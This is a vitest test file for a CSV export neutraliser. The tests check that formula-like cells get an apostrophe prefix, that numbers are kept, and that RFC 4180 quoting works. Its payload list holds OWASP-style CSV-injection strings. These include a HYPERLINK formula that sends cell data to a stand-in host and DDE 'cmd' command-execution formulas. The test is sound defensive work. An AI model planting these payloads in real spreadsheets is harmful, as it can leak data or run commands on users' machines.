import { describe, expect, it } from 'vitest';
import { csvDocument, csvField, isFormulaLike, spreadsheetText } from '../../runtime/format/csv.ts';
import { parseCsv } from '../../server/resources/import-csv.ts';

/** OWASP's CSV-injection payloads, and the characters its guidance names. */
const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=1+1',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '-',
];

describe('spreadsheetText: the one neutraliser of CSV cells', () => {
  it.each(FORMULA_PAYLOADS)('puts an apostrophe before the formula-like %j', (payload) => {
    expect(isFormulaLike(payload)).toBe(true);
    expect(spreadsheetText(payload)).toBe(`'${payload}`);
  });

  it('keeps numbers numbers, by type and by format', () => {
    for (const n of [-12.5, 0, 42, 1e21, -0.001]) expect(spreadsheetText(n)).toBe(String(n));
    for (const s of ['-12.50', '+3', '1,234.50', '-1,234', '-5%', '+3e5', '2.5E-3', '12']) {
      expect(isFormulaLike(s), s).toBe(false);
      expect(spreadsheetText(s)).toBe(s);
    }
    // A sign that opens anything but a plain number is neutralised.
    for (const s of ['-1+2', '+86 138 0000 0001', '-12.50.1', '-1,23', '- 5', '--5']) expect(spreadsheetText(s), s).toBe(`'${s}`);
  });

  it('leaves ordinary text alone, and empty values empty', () => {
    for (const s of ['尿素, 46%', 'a=b', 'x-y', "it's", ' =1 ', '', '2024-03-01']) expect(spreadsheetText(s)).toBe(s);
    expect(spreadsheetText(null)).toBe('');
    expect(spreadsheetText(undefined)).toBe('');
    expect(spreadsheetText(Number.NaN)).toBe('');
    expect(spreadsheetText(true)).toBe('true');
  });

  it('quotes what RFC 4180 needs quoted, and every neutralised cell', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('=1+1')).toBe(`"'=1+1"`);
    expect(csvField('-12.50')).toBe('-12.50');
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField('plain')).toBe('plain');
  });

  it('writes a file that a CSV reader reads back as inert text, numbers unchanged', () => {
    const rows = [['name', 'amount'], ...FORMULA_PAYLOADS.map((p, i) => [p, i % 2 ? -12.5 : '-12.50'])];
    const file = csvDocument(rows);
    expect(file.startsWith('\uFEFF')).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
    const back = parseCsv(file);
    expect(back[0]).toEqual(['name', 'amount']);
    back.slice(1).forEach(([name, amount], i) => {
      expect(name).toBe(`'${FORMULA_PAYLOADS[i]}`);
      expect(amount).toMatch(/^-12\.50?$/);
    });
    // No cell a spreadsheet would evaluate.
    for (const cell of back.flat()) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
    expect(csvDocument([['a']], { bom: false })).toBe('a\r\n');
  });
});
